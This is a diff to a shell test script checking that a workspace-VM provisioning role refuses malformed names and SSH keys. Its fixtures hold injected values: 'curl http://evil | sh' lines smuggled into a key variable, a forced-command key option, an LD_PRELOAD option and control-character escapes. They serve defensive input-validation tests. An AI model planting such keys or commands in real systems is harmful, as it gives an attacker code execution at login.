@@ -128,11 +128,14 @@ cmp "$private/malformed.json" "$work/malformed.orig"
 # 6. Names that are not one line, from the CODER_* variables a provisioner sets, into the
 # workspace_vm role (in check mode, on libvirt's test driver): each is refused before anything
 # is built, naming the variable; so is an SSH key of several lines with one that is no key, or
-# with a C1 control. A good run (two keys) goes through. See faults_and_secrets.rst, "Names".
+# with a C1 control, or with authorized_keys options (a forced command...) or anything else that
+# is not a bare public key. A good run (two keys) goes through. See faults_and_secrets.rst, "Names".
 export NAMES_DIR=$work/names
 mkdir -m 0700 "$NAMES_DIR"
 key1="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl jane@laptop"
-key2='command="/usr/bin/true",no-pty ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBA== jane@ci'
+key2='ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBA== jane@ci'
+key1_blob=${key1#ssh-ed25519 }
+key1_blob=${key1_blob%% *}
 role_run() { # role_run <name> [VAR=value...]: names.yml in check mode with these variables
   local name=$1
   shift
@@ -153,12 +156,30 @@ role_refuses names-c1 "CODER_WORKSPACE_OWNER contains a control character" CODER
 role_refuses names-line-separator "CODER_WORKSPACE_NAME contains a control character" CODER_WORKSPACE_NAME=$'dev\xe2\x80\xa8evil'  # U+2028
 role_refuses names-bidi "CODER_WORKSPACE_TEMPLATE_NAME contains a control character" CODER_WORKSPACE_TEMPLATE_NAME=$'tmpl\xe2\x80\xaeevil'  # U+202E
 role_refuses names-email "CODER_WORKSPACE_OWNER_EMAIL contains a control character" CODER_WORKSPACE_OWNER_EMAIL=$'jane@example.com\e]8;;http://evil\e\\'
-role_refuses names-ssh-injected "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 is not an authorized_keys line" \
+role_refuses names-ssh-injected "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 is not a bare public key" \
   CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\nruncmd: [[sh, -c, "curl http://evil | sh"]]\n'
 role_refuses names-ssh-c1 "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 contains a control character" \
   CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\n'"$key2"$'\xc2\x85'"$key1"  # U+0085
 role_refuses names-ssh-cr "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 1 contains a control character" \
   CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\r'
+# Issue #34: a good key, then a forced command (it became an authorized key running curl|sh at
+# each login), other options, a key type with another type's key, a key after a space, a
+# certificate. One run: every line after the first is refused, each named.
+bad_keys=(
+  "command=\"curl http://evil.example/x|sh\" ssh-ed25519 $key1_blob jane@laptop"
+  "from=\"*\" ssh-ed25519 $key1_blob"
+  "environment=\"LD_PRELOAD=/tmp/evil.so\" ssh-ed25519 $key1_blob"
+  "no-pty,cert-authority ssh-ed25519 $key1_blob"
+  "ssh-rsa $key1_blob"
+  " ssh-ed25519 $key1_blob"
+  "ssh-ed25519-cert-v01@openssh.com $key1_blob"
+)
+role_refuses names-ssh-options "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 is not a bare public key" \
+  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\n'"$(printf '%s\n' "${bad_keys[@]}")"
+for line in $(seq 2 $((${#bad_keys[@]} + 1))); do
+  grep -F "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line $line is not a bare public key" "$work/names-ssh-options.log"
+done
+if grep -F "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 1 " "$work/names-ssh-options.log"; then exit 1; fi
 # The workspace user: an owner's name that is no Linux user name, or an account or group of the
 # image, makes the user coder, said and not failed (a template must work for every owner); a
 # workspace_vm_user that is no Linux user name is refused, naming the variable.
